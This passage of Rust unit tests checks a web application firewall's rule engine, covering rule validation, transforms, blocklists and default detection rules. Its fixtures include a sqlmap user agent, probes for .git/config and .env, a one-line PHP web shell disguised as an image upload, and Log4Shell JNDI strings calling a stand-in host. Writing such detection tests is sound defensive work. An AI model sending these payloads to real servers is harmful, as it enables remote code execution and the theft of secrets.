        let target = err(r#"{"rules":[{"id":11,"targets":["body.json"],"match":{"glob":"b"}}]}"#);
        assert!(target.contains("(id 11): targets: unknown target `body.json`"), "{target}");
        let dup = err(
            r#"{"rules":[{"id":12,"targets":["query"],"match":{"glob":"b"}},{"id":12,"targets":["query"],"match":{"glob":"c"}}]}"#,
        );
        assert!(dup.contains("rules[1] (id 12): id is already used"), "{dup}");
        let reserved = err(r#"{"rules":[{"id":900100,"targets":["query"],"match":{"glob":"b"}}]}"#);
        assert!(reserved.contains("id is already used"), "{reserved}");
    }

    #[test]
    fn targets_transforms_and_allow() {
        let set = engine_rules(
            r#"{"rules":[
                {"id":1,"targets":["query:q"],"transforms":["url_decode","lowercase"],"match":{"literals":["evil"]}},
                {"id":2,"targets":["request.path"],"match":{"glob":"/admin/*"},"methods":["DELETE"],"action":"block"},
                {"id":3,"targets":["request.path"],"match":{"glob":"/health"},"action":"allow"}
            ]}"#,
        )
        .expect("rules compile");
        let mut scratch = RuleScratch::default();
        let mut r = Request::new();
        r.set_path(b"/search");
        r.set_method(b"GET");
        r.add_input(Source::Query, b"q", b"%2545VIL");
        let hit = set.evaluate(&r, &mut scratch, |_| false, true).expect("literal after decoding");
        assert_eq!((hit.id, hit.input), (1, Some(0)));
        r.reset();
        r.add_input(Source::Query, b"other", b"evil");
        assert_eq!(set.evaluate(&r, &mut scratch, |_| false, true), None, "key glob");
        r.reset();
        r.set_path(b"/admin/users/3");
        r.set_method(b"GET");
        assert_eq!(set.evaluate(&r, &mut scratch, |_| false, true), None, "method condition");
        r.set_method(b"delete");
        assert_eq!(set.evaluate(&r, &mut scratch, |_| false, true).map(|h| h.id), Some(2));
        r.reset();
        r.set_path(b"/health");
        r.add_input(Source::Query, b"q", b"evil");
        assert_eq!(set.evaluate(&r, &mut scratch, |_| false, true).map(|h| h.action), Some(Some(RuleAction::Allow)));
    }

    #[test]
    fn large_literal_sets_compile_fast_and_still_match() {
        // A blocklist of thousands of names: the gate is skipped, not built slowly.
        let names: Vec<String> = (0..5000).map(|i| format!("\"agent-{i:05}\"")).collect();
        let json = format!(
            r#"{{"rules":[{{"id":1,"targets":["header:user-agent"],"transforms":["lowercase"],"match":{{"literals":[{}]}}}}]}}"#,
            names.join(",")
        );
        let start = std::time::Instant::now();
        let set = engine_rules(&json).expect("rules compile");
        assert!(start.elapsed().as_secs() < 5, "took {:?}", start.elapsed());
        let mut r = Request::new();
        r.add_input(Source::Header, b"User-Agent", b"Mozilla AGENT-04321 x");
        assert_eq!(set.evaluate(&r, &mut RuleScratch::default(), |_| false, true).map(|h| h.id), Some(1));
    }

    #[test]
    fn default_rules_catch_their_targets() {
        let set = RuleSet::new(&Policy::default()).expect("default ruleset");
        let mut scratch = RuleScratch::default();
        let id = |r: &Request, scratch: &mut RuleScratch| set.evaluate(r, scratch, |_| false, true).map(|h| h.id);
        let mut r = Request::new();
        r.add_input(Source::Header, b"User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)");
        assert_eq!(id(&r, &mut scratch), Some(900100));
        for (path, rule) in [
            ("/.git/config", 900200),
            ("/static/..%2f.env", 900201),
            ("/wp-login.php", 900202),
            ("/db.sql", 900203),
            ("/docs/environment", 0),
            ("/blog/git-tips", 0),
        ] {
            r.reset();
            r.set_path(path.as_bytes());
            assert_eq!(id(&r, &mut scratch).unwrap_or(0), rule, "{path}");
        }
        for (name, ty, head, rule) in [
            ("avatar.php", "image/png", &b"\x89PNG\r\n\x1a\n"[..], 900300),
            ("avatar.php.jpg", "image/jpeg", b"\xff\xd8\xff", 900301),
            ("avatar.png", "image/png", b"<?php system($_GET['c']); ?>", 900302),
            ("avatar.png", "image/png", b"\x89PNG\r\n\x1a\n....", 0),
            ("report.pdf", "application/pdf", b"%PDF-1.7", 0),
        ] {
            r.reset();
            r.add_file(b"upload", name.as_bytes(), ty.as_bytes(), head);
            assert_eq!(id(&r, &mut scratch).unwrap_or(0), rule, "{name}");
        }
        r.reset();
        r.set_method(b"TRACE");
        assert_eq!(id(&r, &mut scratch), Some(900400));
        r.reset();
        r.add_input(Source::Header, b"x-api-version", b"${jndi:ldap://x.example/a}");
        assert_eq!(id(&r, &mut scratch), Some(900500));
        r.reset();
        r.add_input(Source::Query, b"q", b"${${lower:j}ndi:ldap://x}");
        assert_eq!(id(&r, &mut scratch), Some(900500));
    }
}
